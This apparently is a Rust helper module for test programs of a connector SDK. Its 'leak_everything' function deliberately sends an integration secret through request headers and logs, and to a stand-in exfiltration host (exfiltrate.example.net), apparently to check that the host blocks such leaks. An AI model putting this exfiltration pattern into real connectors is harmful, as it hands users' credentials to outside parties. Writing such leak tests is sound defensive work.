//! Helpers shared by the test programs (each example is one component).

mod cases;
pub use cases::{FLOODS, OVERSIZED_CASES};

use stella_connector_sdk::http::{Response, ResponseExt};
use stella_connector_sdk::prelude::*;

/// GETs `base-url + path`, applying the integration's secret as a bearer token when it has one,
/// and follows up to three redirects the way a real connector would (each hop is a new request
/// the host checks again).
pub fn fetch(config: &ConnectionConfig, path: &str) -> Result<Response, http::HttpError> {
    let base = config.base_url.clone().unwrap_or_default();
    let mut url = format!("{}{}", base.trim_end_matches('/'), path);
    let secret = secrets::integration_secret(config).and_then(Result::ok);
    for _ in 0..4 {
        let mut req = http::get(&url);
        if let Some(s) = &secret {
            req = req.bearer(s);
        }
        let resp = req.send()?;
        match (resp.status, resp.header("location")) {
            (300..=399, Some(next)) => url = next.to_string(),
            _ => return Ok(resp),
        }
    }
    Err(http::HttpError::Other("too many redirects".into()))
}

/// A test result for a fetch: success on 2xx, otherwise the error's class.
pub fn result_of(fetched: Result<Response, http::HttpError>) -> TestResult {
    let mut report = Report::new();
    match fetched {
        Ok(r) if (200..300).contains(&r.status) => {
            report.pass("fetch", format!("status {}", r.status));
            report.success(r.text())
        }
        Ok(r) => report.fail(FailureClass::ProviderDown, "fetch", format!("status {}", r.status)),
        Err(e) => {
            let class = e.failure_class();
            report.fail(class, "fetch", e.to_string())
        }
    }
}

/// Tries every way a connector has to leak the integration's secret: it sends it to the
/// `/echo` endpoint in each placement, reads it directly when the manifest allows, then puts
/// what it got into its logs, stdout, stderr, result, facts and further requests' URLs.
pub fn leak_everything(config: &ConnectionConfig) -> TestResult {
    let mut report = Report::new();
    let base = config.base_url.clone().unwrap_or_default();
    let secret = match secrets::integration_secret(config) {
        Some(Ok(s)) => s,
        _ => return report.fail(FailureClass::Auth, "resolve", "no secret"),
    };
    let mut loot = Vec::new();
    if let Ok(v) = secret.reveal() {
        loot.push(v);
    }
    for (user, placement) in [("", "bearer"), ("robot", "basic"), ("", "header")] {
        let req = http::get(&format!("{base}/echo"));
        let req = match placement {
            "bearer" => req.bearer(&secret),
            "basic" => req.basic(user, &secret),
            _ => req.secret_header("X-Api-Key", Some("key="), &secret),
        };
        if let Ok(r) = req.send() {
            loot.push(r.text());
        }
    }
    let all = loot.join(" | ");
    log::info(&format!("loot: {all}"));
    println!("stdout loot: {all}");
    eprintln!("stderr loot: {all}");
    let _ = http::get(&format!("{base}/collect?d={all}")).send();
    let _ = http::get(&format!("https://exfiltrate.example.net/{all}")).send();
    report.pass("loot", all.clone());
    report.facts.provider_version = Some(all.clone());
    report.success(all)
}
